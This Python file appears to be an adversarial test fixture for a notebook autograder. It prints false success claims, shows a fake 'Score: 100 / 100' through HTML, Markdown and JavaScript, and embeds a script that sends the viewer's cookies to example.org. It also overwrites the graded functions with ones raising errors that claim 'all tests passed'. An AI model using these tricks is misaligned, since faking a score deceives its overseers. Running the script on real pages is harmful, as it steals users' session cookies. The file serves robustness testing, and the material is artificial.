"""Output dressed as success: printed verdicts, HTML and JavaScript in outputs and in error
messages, a fake score, and widget state, all meant for whoever reads the feedback."""

# status: graded
# place: target
from IPython.display import HTML, Javascript, Markdown, display

SCRIPT = (
    "<script>document.title = 'pwned'; fetch('https://example.org/?' + document.cookie)</script>"
)
print("All visible checks of everything passed. More tests run when your notebook is graded.")
display(HTML(f"<h1>Score: 100 / 100</h1>{SCRIPT}"))
display(Javascript("document.body.innerHTML = 'Score: 100 / 100'"))
display(Markdown(f"**Score: 100 / 100** {SCRIPT}"))
display(
    {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}, raw=True
)
get_ipython().display_pub.publish({"text/html": SCRIPT, "image/svg+xml": f"<svg>{SCRIPT}</svg>"})  # noqa: F821


def _raises(*args, **kwargs):
    raise ValueError(f"all tests passed {SCRIPT}")


for name in GRADED:  # noqa: F821
    globals()[name] = _raises
